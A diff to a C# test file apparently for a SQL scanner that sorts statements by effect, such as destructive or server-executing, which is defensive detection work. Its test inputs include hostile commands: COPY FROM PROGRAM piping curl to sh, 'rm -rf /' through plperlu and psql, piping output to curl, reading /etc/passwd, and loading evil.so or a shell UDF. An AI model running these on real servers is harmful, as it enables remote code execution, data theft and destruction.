@@ -27,7 +27,7 @@ public class SqlScannerTests
     [TestCase("SELECT $1; DROP TABLE x", Effect.Drop)]
     [TestCase("SELECT \"DROP\" FROM t", Effect.Read)]
     [TestCase("SELECT 1; DROP TABLE x", Effect.Drop)]
-    [TestCase("SELECT f(1, ';'); SELECT 2", Effect.Read)]
+    [TestCase("SELECT concat(1, ';'); SELECT 2", Effect.Read)]
     [TestCase("EXPLAIN DELETE FROM t", Effect.Read)]
     [TestCase("EXPLAIN ANALYZE DELETE FROM t", Effect.Wipe)]
     [TestCase("EXPLAIN (ANALYZE true) UPDATE t SET a=1 WHERE b", Effect.Write)]
@@ -38,7 +38,7 @@ public class SqlScannerTests
     [TestCase("CREATE TABLE t (a int)", Effect.Write)]
     [TestCase("SHOW TABLES", Effect.Read)]
     [TestCase("SELECT pg_terminate_backend(42)", Effect.Terminate)]
-    [TestCase("DO $$ BEGIN DROP TABLE x; END $$", Effect.Unknown)]
+    [TestCase("DO $$ BEGIN DROP TABLE x; END $$", Effect.Drop)]
     [TestCase("CALL p()", Effect.Unknown)]
     [TestCase("FROBNICATE t", Effect.Unknown)]
     [TestCase("", Effect.Read)]
@@ -53,26 +53,26 @@ public class SqlScannerTests
     [TestCase("SELECT $é$ ; DROP TABLE t; $é$", Effect.Read)]                 // a non-ASCII dollar-quote tag
     [TestCase("UPDATE t lımıt SET a = 1", Effect.Wipe)]                      // "lımıt" (dotless i) is an alias, not LIMIT
     [TestCase("DELETE FROM t lımıt", Effect.Wipe)]
-    [TestCase("COPY t FROM PROGRAM 'curl -s http://x | sh'", Effect.Wipe)]   // a shell command on the server
-    [TestCase("COPY (SELECT 1) TO PROGRAM 'rm -rf /var/lib/postgresql'", Effect.Wipe)]
+    [TestCase("COPY t FROM PROGRAM 'curl -s http://x | sh'", Effect.ServerExec)]   // a shell command on the server
+    [TestCase("COPY (SELECT 1) TO PROGRAM 'rm -rf /var/lib/postgresql'", Effect.ServerExec)]
     [TestCase("COPY t FROM STDIN", Effect.Write)]
     [TestCase("COPY t TO STDOUT", Effect.Read)]
     [TestCase("COPY t (program) TO STDOUT", Effect.Read)]                   // a column named program, in parentheses
-    [TestCase("COPY t TO '/var/lib/postgresql/15/main/PG_VERSION'", Effect.Unknown)] // a file on the server
-    [TestCase("COPY t FROM '/tmp/rows.csv'", Effect.Write)]
-    [TestCase("ALTER SYSTEM SET archive_command = 'rm -rf ~'", Effect.Wipe)]
-    [TestCase("ALTER SYSTEM SET shared_preload_libraries = 'evil'", Effect.Wipe)]
-    [TestCase("ALTER SYSTEM SET work_mem = '64MB'", Effect.Write)]
-    [TestCase("LOAD '/tmp/evil.so'", Effect.Wipe)]
-    [TestCase("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C", Effect.Wipe)]
-    [TestCase("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$", Effect.Wipe)]
-    [TestCase("CREATE LANGUAGE plperlu", Effect.Wipe)]
+    [TestCase("COPY t TO '/var/lib/postgresql/15/main/PG_VERSION'", Effect.ServerExec)] // a file on the server
+    [TestCase("COPY t FROM '/tmp/rows.csv'", Effect.ServerExec)] // a file on the server, read as its OS user
+    [TestCase("ALTER SYSTEM SET archive_command = 'rm -rf ~'", Effect.ServerExec)]
+    [TestCase("ALTER SYSTEM SET shared_preload_libraries = 'evil'", Effect.ServerExec)]
+    [TestCase("ALTER SYSTEM SET work_mem = '64MB'", Effect.ServerAdmin)]
+    [TestCase("LOAD '/tmp/evil.so'", Effect.ServerExec)]
+    [TestCase("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C", Effect.ServerExec)]
+    [TestCase("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$", Effect.ServerExec)]
+    [TestCase("CREATE LANGUAGE plperlu", Effect.ServerExec)]
     [TestCase("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", Effect.Write)]
     [TestCase("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", Effect.Write)]
     [TestCase("CREATE TABLE language (c text)", Effect.Write)]
-    [TestCase("SELECT * FROM dblink('dbname=app', 'DELETE FROM t RETURNING 1') AS x(a int)", Effect.Unknown)] // runs the string
-    [TestCase("SELECT dblink_send_query('c', 'DROP TABLE t')", Effect.Unknown)]
-    [TestCase("SELECT query_to_xmlschema('DELETE FROM t RETURNING 1', true, true, '')", Effect.Unknown)]
+    [TestCase("SELECT * FROM dblink('dbname=app', 'DELETE FROM t RETURNING 1') AS x(a int)", Effect.ServerExec)] // runs the string
+    [TestCase("SELECT dblink_send_query('c', 'DROP TABLE t')", Effect.ServerExec)]
+    [TestCase("SELECT query_to_xmlschema('DELETE FROM t RETURNING 1', true, true, '')", Effect.ServerExec)]
     [TestCase("SELECT dblinked, query_to_xml_count FROM t", Effect.Read)]      // look-alike columns
     public void Postgres(string sql, Effect expected) =>
         Assert.That(SqlScanner.Scan(sql).Effect, Is.EqualTo(expected));
@@ -85,7 +85,7 @@ public class SqlScannerTests
     [TestCase("DELETE FROM t LIMIT 10", Effect.Delete)]
     [TestCase("KILL 42", Effect.Terminate)]
     [TestCase("RESET MASTER", Effect.Delete)]
-    [TestCase("LOAD DATA INFILE 'x.csv' INTO TABLE t", Effect.Write)]
+    [TestCase("LOAD DATA INFILE 'x.csv' INTO TABLE t", Effect.ServerExec)] // a server file
     public void MySql(string sql, Effect expected) =>
         Assert.That(SqlScanner.Scan(sql, SqlDialect.MySql).Effect, Is.EqualTo(expected));
 
@@ -117,5 +117,99 @@ public class SqlScannerTests
             Assert.That(r.Summary, Is.EqualTo("DROP TABLE users"));
             Assert.That(r.Statements, Has.Count.EqualTo(3));
         });
+    }
+
+    // SQL that acts later: bodies of functions, procedures, DO blocks, triggers and rules.
+    [TestCase("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM users $$", Effect.Wipe)]
+    [TestCase("CREATE OR REPLACE FUNCTION f() RETURNS void AS $body$ BEGIN DELETE FROM users WHERE id = 1; END $body$ LANGUAGE plpgsql", Effect.Delete)]
+    [TestCase("CREATE FUNCTION f() RETURNS void AS 'DROP TABLE users' LANGUAGE sql", Effect.Drop)]
+    [TestCase("CREATE FUNCTION f() RETURNS int AS $$ SELECT count(*) FROM users $$ LANGUAGE sql", Effect.Write)]
+    [TestCase("CREATE FUNCTION f() RETURNS void AS $$ DECLARE n int; BEGIN IF n > 0 THEN TRUNCATE t; END IF; END $$ LANGUAGE plpgsql", Effect.Truncate)]
+    [TestCase("CREATE FUNCTION f() RETURNS void AS $$ BEGIN FOR r IN SELECT id FROM t LOOP UPDATE t SET a = 1 WHERE id = r.id; END LOOP; END $$ LANGUAGE plpgsql", Effect.Write)]
+    [TestCase("CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident('t'); END $$ LANGUAGE plpgsql", Effect.Unknown)]
+    [TestCase("CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE t'; END $$ LANGUAGE plpgsql", Effect.Drop)]
+    [TestCase("CREATE FUNCTION f() RETURNS int AS $$ import os; os.system('id') $$ LANGUAGE plpython3u", Effect.ServerExec)]
+    [TestCase("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE c", Effect.ServerExec)]
+    [TestCase("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END", Effect.Wipe)]
+    [TestCase("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP SCHEMA app CASCADE; END $$", Effect.Drop)]
+    [TestCase("DO $$ BEGIN PERFORM pg_sleep(1); END $$", Effect.Read)]
+    [TestCase("DO LANGUAGE plperlu $$ system('rm -rf /') $$", Effect.ServerExec)]
+    [TestCase("CREATE FUNCTION wipe() RETURNS trigger AS $$ BEGIN DELETE FROM audit; RETURN NEW; END $$ LANGUAGE plpgsql; CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION wipe()", Effect.Wipe)]
+    [TestCase("CREATE TRIGGER t AFTER INSERT ON x FOR EACH ROW EXECUTE FUNCTION elsewhere()", Effect.Unknown)]
+    [TestCase("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION elsewhere()", Effect.Unknown)]
+    [TestCase("CREATE RULE r AS ON INSERT TO log DO ALSO DELETE FROM users", Effect.Wipe)]
+    [TestCase("CREATE OR REPLACE RULE r AS ON UPDATE TO t DO INSTEAD (UPDATE u SET a = 1 WHERE id = 2; DROP TABLE v)", Effect.Drop)]
+    [TestCase("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", Effect.Write)]
+    // Calls: a function the scanner cannot see into is unknown; built-ins that read stay reads.
+    [TestCase("SELECT cleanup_everything()", Effect.Unknown)]
+    [TestCase("SELECT public.cleanup_everything(1)", Effect.Unknown)]
+    [TestCase("SELECT * FROM cleanup_everything()", Effect.Unknown)]
+    [TestCase("SELECT \"cleanup\"()", Effect.Unknown)]
+    [TestCase("SELECT count(*), now(), coalesce(a, 0)::numeric(10,2), lower(b) FROM t WHERE id IN (1, 2) AND EXISTS (SELECT 1)", Effect.Read)]
+    [TestCase("SELECT CAST(a AS varchar(10)), array_agg(b) OVER (PARTITION BY c) FROM t", Effect.Read)]
+    [TestCase("WITH x(a) AS (SELECT 1) SELECT * FROM x", Effect.Read)]
+    [TestCase("INSERT INTO t (a, b) VALUES (1, now())", Effect.Write)]
+    [TestCase("INSERT INTO app.t (a) VALUES (1)", Effect.Write)]
+    [TestCase("SELECT nextval('s')", Effect.Write)]
+    [TestCase("UPDATE t SET a = purge_all() WHERE id = 1", Effect.Unknown)]
+    [TestCase("CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql; SELECT f()", Effect.Wipe)]
+    // SQL that acts elsewhere: programs and files on the server, other servers.
+    [TestCase("COPY t TO PROGRAM 'curl -X DELETE https://prod/x'", Effect.ServerExec)]
+    [TestCase("COPY t FROM PROGRAM 'id'", Effect.ServerExec)]
+    [TestCase("COPY (SELECT 1) TO '/var/lib/postgresql/x'", Effect.ServerExec)]
+    [TestCase("COPY t TO STDOUT", Effect.Read)]
+    [TestCase("COPY t FROM STDIN", Effect.Write)]
+    [TestCase("SELECT pg_read_file('/etc/passwd')", Effect.ServerExec)]
+    [TestCase("SELECT lo_export(1234, '/tmp/x')", Effect.ServerExec)]
+    [TestCase("SELECT * FROM dblink('host=prod', 'DELETE FROM t') AS x(a int)", Effect.ServerExec)]
+    [TestCase("SELECT dblink_exec('host=prod', 'DROP TABLE t')", Effect.ServerExec)]
+    [TestCase("LOAD 'auto_explain'", Effect.ServerExec)]
+    [TestCase("ALTER SYSTEM SET work_mem = '64MB'", Effect.ServerAdmin)]
+    [TestCase("ALTER SYSTEM SET archive_command = 'x'", Effect.ServerExec)] // the server runs it as a shell command
+    [TestCase("CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.prod')", Effect.ServerAdmin)]
+    [TestCase("CREATE USER MAPPING FOR app SERVER prod OPTIONS (user 'x')", Effect.ServerAdmin)]
+    [TestCase("CREATE SUBSCRIPTION s CONNECTION 'host=prod' PUBLICATION p", Effect.ServerAdmin)]
+    [TestCase("ALTER SUBSCRIPTION s CONNECTION 'host=other'", Effect.ServerAdmin)]
+    [TestCase("CREATE EXTENSION dblink", Effect.ServerAdmin)]
+    [TestCase("ALTER ROLE app WITH SUPERUSER", Effect.ServerAdmin)]
+    [TestCase("ALTER ROLE app WITH NOSUPERUSER", Effect.Write)]
+    [TestCase("CREATE ROLE x LOGIN SUPERUSER", Effect.ServerAdmin)]
+    [TestCase("GRANT pg_execute_server_program TO app", Effect.ServerAdmin)]
+    [TestCase("GRANT pg_read_server_files TO app", Effect.ServerAdmin)]
+    [TestCase("GRANT SELECT ON t TO app", Effect.Write)]
+    [TestCase("SELECT pg_reload_conf()", Effect.ServerAdmin)]
+    [TestCase("ALTER SYSTEM SET x = 1; DROP TABLE t", Effect.Drop)]
+    [TestCase("DROP TABLE t; COPY t TO PROGRAM 'x'", Effect.ServerExec)]
+    // psql commands that run programs; \copy is the client's.
+    [TestCase("\\! rm -rf /", Effect.ServerExec)]
+    [TestCase("SELECT 1 \\g |sh", Effect.ServerExec)]
+    [TestCase("\\o |curl -d @- https://x", Effect.ServerExec)]
+    [TestCase("\\copy t to program 'sh'", Effect.ServerExec)]
+    [TestCase("\\copy t from 'x.csv'", Effect.Write)]
+    [TestCase("SELECT 1 \\g out.txt", Effect.Read)]
+    public void SqlThatActsLaterOrElsewhere(string sql, Effect expected) =>
+        Assert.That(SqlScanner.Scan(sql, SqlDialect.Postgres).Effect, Is.EqualTo(expected), sql);
+
+    [TestCase("SELECT * FROM t INTO OUTFILE '/var/lib/mysql-files/x'", Effect.ServerExec)]
+    [TestCase("SELECT LOAD_FILE('/etc/passwd')", Effect.ServerExec)]
+    [TestCase("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", Effect.ServerExec)]
+    [TestCase("LOAD DATA LOCAL INFILE 'x.csv' INTO TABLE t", Effect.Write)]
+    [TestCase("INSTALL PLUGIN x SONAME 'x.so'", Effect.ServerExec)]
+    [TestCase("CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'", Effect.ServerExec)]
+    [TestCase("SET GLOBAL general_log = 1", Effect.ServerAdmin)]
+    [TestCase("SET @@global.read_only = 0", Effect.ServerAdmin)]
+    [TestCase("SET NAMES utf8mb4", Effect.Read)]
+    [TestCase("CHANGE REPLICATION SOURCE TO SOURCE_HOST = 'evil'", Effect.ServerAdmin)]
+    [TestCase("GRANT FILE ON *.* TO app", Effect.ServerAdmin)]
+    [TestCase("SELECT NOW(), IFNULL(a, 0), DATE_FORMAT(b, '%Y') FROM t", Effect.Read)]
+    public void MySqlThatActsElsewhere(string sql, Effect expected) =>
+        Assert.That(SqlScanner.Scan(sql, SqlDialect.MySql).Effect, Is.EqualTo(expected), sql);
+
+    [Test]
+    public void ConnectNamesTheServerTheRestRunsOn()
+    {
+        var r = SqlScanner.Scan("\\c \"host=db.prod.example.com dbname=app\"\nDROP TABLE t;");
+        Assert.That(r.Connects, Has.Count.EqualTo(1));
+        Assert.That(r.Connects[0], Does.Contain("db.prod.example.com"));
     }
 }
